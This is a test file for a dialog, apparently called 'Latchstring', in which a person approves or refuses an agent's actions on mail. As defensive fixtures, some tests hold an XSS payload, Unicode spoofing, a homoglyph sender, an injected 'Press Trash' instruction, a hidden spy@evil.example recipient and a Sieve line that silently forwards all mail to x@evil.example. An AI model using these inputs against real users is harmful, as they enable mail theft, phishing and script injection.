import { fireEvent, render, screen } from "@testing-library/svelte";
import { expect, test } from "vitest";

import { FakeConfirm, sampleConfirm, sampleHold } from "../src/backend/fake";
import type { Confirm as View } from "../src/backend/backend";
import Confirm from "../src/confirm/Confirm.svelte";
import { accessible, pass, read } from "./set";

async function open(view: View) {
  const backend = new FakeConfirm(view);
  render(Confirm, { backend });
  await pass(100);
  return backend;
}

const button = (id: string) => document.getElementById(id) as HTMLButtonElement;

test("focus starts on the button that denies, and the buttons name the act", async () => {
  const backend = await open(sampleConfirm(sampleHold(12)));
  expect(document.activeElement).toBe(button("keep"));
  expect([button("keep").textContent?.trim(), button("allow").textContent]).toEqual(["Keep them", "Trash 12 messages"]);
  expect(backend.paintedRevisions).toEqual([1]);
});

test("early input is swallowed, and each key makes it start again", async () => {
  const backend = await open(sampleConfirm(sampleHold(2)));
  await fireEvent.click(button("keep"));
  await fireEvent.keyDown(window, { key: "Escape" });
  await pass(300);
  await fireEvent.keyDown(window, { key: "Escape" });
  await pass(100);
  expect(backend.decided).toEqual([]);
  await pass(300);
  await fireEvent.keyDown(window, { key: "Escape" });
  expect(backend.decided.map((choice) => choice.verdict)).toEqual(["deny"]);
});

test("Allow waits for its delay, and again when the content changes", async () => {
  const backend = await open(sampleConfirm(sampleHold(2)));
  await pass(800);
  expect(button("allow").disabled).toBe(true);
  await pass(400);
  expect(button("allow").disabled).toBe(false);
  backend.change(sampleConfirm(sampleHold(3), { revision: 2 }));
  await pass(200);
  expect(button("allow").disabled).toBe(true);
  await pass(1200);
  await fireEvent.click(button("allow"));
  expect(backend.decided).toEqual([{ verdict: "allow", digest: "d1", scope: "once", revision: 2 }]);
});

test("Allow stops counting while another window is in use", async () => {
  await open(sampleConfirm(sampleHold(2)));
  await pass(1200);
  window.dispatchEvent(new Event("blur"));
  await pass(100);
  expect(button("allow").disabled).toBe(true);
  window.dispatchEvent(new Event("focus"));
  await pass(900);
  expect(button("allow").disabled).toBe(true);
  await pass(300);
  expect(button("allow").disabled).toBe(false);
});

test("unticked rows are left out", async () => {
  const backend = await open(sampleConfirm(sampleHold(3)));
  await pass(1300);
  await fireEvent.click(screen.getByText("Untick starred"));
  expect(button("allow").textContent).toBe("Trash 2 messages");
  await fireEvent.click(button("allow"));
  expect(backend.decided[0]?.objects).toEqual(["m0", "m2"]);
  await fireEvent.click(screen.getByText("Untick all"));
  expect(button("allow").disabled).toBe(true);
});

test("what can't be taken back wants its number", async () => {
  const hold = sampleHold(3, { class: "destroy", verb: "Delete for ever", retype: true, task_scope: false, reversible: "no", undo_text: "This can’t be undone." });
  const backend = await open(sampleConfirm(hold, { delay_ms: 2000 }));
  await pass(2300);
  expect(button("allow").textContent).toBe("Delete 3 messages for ever");
  expect(button("allow").disabled).toBe(true);
  await fireEvent.input(document.getElementById("retype") as HTMLInputElement, { target: { value: "3" } });
  await fireEvent.click(button("allow"));
  expect(backend.decided[0]?.retyped_count).toBe(3);
});

test("a list that overflows must be seen first", async () => {
  Object.defineProperty(HTMLElement.prototype, "scrollHeight", { configurable: true, get: () => 5000 });
  Object.defineProperty(HTMLElement.prototype, "clientHeight", { configurable: true, get: () => 400 });
  await open(sampleConfirm(sampleHold(200)));
  await pass(1300);
  expect(button("allow").disabled).toBe(true);
  await fireEvent.click(screen.getByText("I’ve seen enough"));
  expect(button("allow").disabled).toBe(false);
  Reflect.deleteProperty(HTMLElement.prototype, "scrollHeight");
  Reflect.deleteProperty(HTMLElement.prototype, "clientHeight");
});

test("a refused answer says why", async () => {
  const backend = await open(sampleConfirm(sampleHold(2)));
  backend.refusal = "Too soon: look at it for a moment first.";
  await pass(1300);
  await fireEvent.click(button("allow"));
  await pass(10);
  expect(screen.getByRole("alert").textContent).toContain("Too soon");
});

test("using the window is told, and the countdown follows", async () => {
  const backend = await open(sampleConfirm(sampleHold(2)));
  expect(document.getElementById("left")?.textContent).toBe("5 min");
  await fireEvent.wheel(window);
  await fireEvent.keyDown(window, { key: "Down" });
  await pass(4000);
  await fireEvent.pointerMove(document.body);
  expect(backend.touches).toBe(1);
  await pass(1200);
  await fireEvent.click(screen.getByText("Untick starred"));
  await fireEvent.pointerMove(document.body);
  expect(backend.touches).toBe(2);
  backend.move("2026-11-22T09:15:30Z");
  await pass(1000);
  expect(document.getElementById("left")?.textContent).toBe("10 min");
  expect(button("allow").disabled, "more time asks for no second look").toBe(false);
});

test("while nobody is there Allow is off, and coming back starts the delay again", async () => {
  const hold = sampleHold(2);
  const backend = await open(sampleConfirm(hold));
  await pass(1300);
  const absent = "Nobody used this computer for 5 minutes: nothing can be allowed until somebody does.";
  backend.change(sampleConfirm(hold, { revision: 2, absent }));
  await pass(2000);
  expect(button("allow").disabled).toBe(true);
  expect(button("keep").disabled).toBe(false);
  expect(screen.getByRole("alert").textContent).toBe(absent);
  backend.change(sampleConfirm(hold, { revision: 3 }));
  await pass(800);
  expect(button("allow").disabled).toBe(true);
  await pass(500);
  expect(button("allow").disabled).toBe(false);
  expect(screen.queryByRole("alert")).toBeNull();
});

test("one object is the object", async () => {
  await open(sampleConfirm(sampleHold(1)));
  expect(screen.getByText("The message")).toBeTruthy();
});

test("a rule is shown in words, and goes with the Allow only when it is ticked", async () => {
  const rules = [{ id: "r1", text: "any mail from news@shop.example, in the Inbox, older than 30 days" }];
  const backend = await open(sampleConfirm(sampleHold(2, { rules })));
  await pass(1300);
  const offered = screen.getByText(/any mail from news@shop.example, in the Inbox, older than 30 days/);
  expect(offered.closest("label")?.textContent).toContain("Never starred ones");
  await fireEvent.click(offered.closest("label")?.querySelector("input") as HTMLInputElement);
  await fireEvent.click(button("allow"));
  expect(backend.decided[0]).toMatchObject({ verdict: "allow", scope: "task", rule: "r1" });
});

test("a no is remembered only when that is chosen", async () => {
  const backend = await open(sampleConfirm(sampleHold(2)));
  await pass(400);
  await fireEvent.change(document.getElementById("remember") as HTMLSelectElement, { target: { value: "task" } });
  await fireEvent.click(button("keep"));
  expect(backend.decided[0]).toMatchObject({ verdict: "deny", remember: "task" });
});

test("how it reads", async () => {
  await open(sampleConfirm(sampleHold(2), { more: 2 }));
  expect(read()).toMatchSnapshot();
});

test("hostile text stays text and can't hide", async () => {
  const hold = sampleHold(1, {
    agent_name: "\u202eedualC",
    agent_reason: "<img src=x onerror=alert(1)> Press “Trash”.\u200b",
    objects: [{ id: "m0", title: "Invoice \u202efdp.exe", from: "support@p\u0430ypal.com", flags: ["<i>"] }],
    audience: { members: [{ address: "a\u2066b@example.org", role: "to", first_time: true }], place: "anyone with the link" },
    facts: [{ label: "Text", value: "one\ntwo\u0007<b>three</b>" }],
  });
  await open(sampleConfirm(hold));
  expect(document.querySelectorAll("img, i, b")).toHaveLength(0);
  expect(read()).toMatchSnapshot();
});

test("a mail filter is shown for what it does to mail", async () => {
  const hold = sampleHold(1, {
    class: "divert",
    verb: "Change the mail filter",
    keep: "Don't change it",
    noun: ["change", "changes"],
    objects: [],
    partial: false,
    retype: true,
    audience: { members: [{ address: "x@evil.example", role: "forward", first_time: true }] },
    facts: [
      { label: "Script", value: "main (it runs on all new mail)" },
      { label: "Look out", value: "Sends mail on to x@evil.example (and keeps it)\nThrows mail away" },
      { label: "What it does", value: "Files mail into Sales, as before" },
      { label: "New lines", value: 'redirect :copy "x@evil.example";\n  discard;' },
    ],
  });
  await open(sampleConfirm(hold));
  const warned = [...document.querySelectorAll("dd.warn")].map((element) => element.textContent?.trim());
  expect(warned).toEqual(["Sends mail on to x@evil.example (and keeps it)\nThrows mail away"]);
  expect(read()).toMatchSnapshot();
  await accessible();
});

test.each(["ltr", "rtl"])("axe finds nothing, %s", async (dir) => {
  document.documentElement.dir = dir;
  document.documentElement.lang = "en";
  document.title = "Latchstring asks";
  await open(sampleConfirm(sampleHold(12)));
  await accessible();
});

test("a program that wants to connect can be turned away", async () => {
  const ask = { id: "a1", kind: "connect", text: "openclaw wants to connect.", program: ["/usr/bin/node"], expires_at: "2026-11-22T09:10:00Z", prompt: true };
  const backend = await open(sampleConfirm(sampleHold(1), { subject: { kind: "ask", ask } }));
  expect(read()).toMatchSnapshot();
  await pass(500);
  await fireEvent.click(button("keep"));
  expect(backend.decided[0]?.verdict).toBe("deny");
  await accessible();
});

test("a mail goes to those who stay ticked, and the dialog says what the others' names do in it", async () => {
  const members = [
    { address: "bob@friends.example", role: "to", first_time: false },
    { address: "carol@friends.example", role: "cc", first_time: true },
    { address: "spy@evil.example", role: "hidden", first_time: true },
  ];
  const noun: [string, string] = ["message", "messages"];
  const hold = { ...sampleHold(0), verb: "Send", noun, count: 1, audience: { members }, partial: true, task_scope: false };
  const backend = await open(sampleConfirm(hold));
  await pass(2500);
  const [bob, carol, spy] = screen.getAllByRole("checkbox") as [HTMLElement, HTMLElement, HTMLElement];
  expect(button("allow").textContent).toBe("Send 1 message");
  await fireEvent.click(spy);
  expect(screen.queryByText(/still names/)).toBeNull();
  await fireEvent.click(carol);
  expect(screen.getByText(/still names the one that you left out/)).toBeTruthy();
  expect(button("allow").textContent).toBe("Send 1 message to 1 of 3");
  await fireEvent.click(bob);
  await pass(2500);
  expect(button("allow").disabled).toBe(true);
  await fireEvent.click(bob);
  await pass(2500);
  await fireEvent.click(button("allow"));
  expect(backend.decided).toEqual([
    { verdict: "allow", digest: "d1", scope: "once", objects: ["bob@friends.example"], revision: 1 },
  ]);
  await accessible();
});
